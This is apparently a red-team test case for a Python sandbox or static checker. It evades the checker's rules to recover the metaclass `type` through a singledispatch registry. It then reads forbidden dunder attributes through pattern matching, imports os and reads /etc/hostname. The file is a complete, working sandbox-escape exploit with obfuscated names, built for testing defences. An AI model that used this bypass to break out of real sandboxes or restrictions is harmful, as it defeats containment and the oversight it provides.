# family: red team, round 8 (annotation_class_dunder_registry)
# x.__class__ is allowed wherever a class is "only looked at", annotations included. But annotations are
# values: @dispatch.register puts the annotated class into dispatch.registry, where the tool reads it back.
# JSONDecoder.__class__ is the metaclass `type` (the registered-annotation rule checks only that the path
# starts at an import, and the metaclass rule only looks for the names type/ABCMeta...).
import abc
import functools
from json import JSONDecoder


@functools.singledispatch
def dispatch(x):
    return x


@dispatch.register
def _(x: JSONDecoder.__class__):
    return x


def metaclass_of_base():
    return [k for k in dispatch.registry if k is not object][0]


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    meta = metaclass_of_base()
    probe = meta("Probe", (abc.ABC,), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass_of_base().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
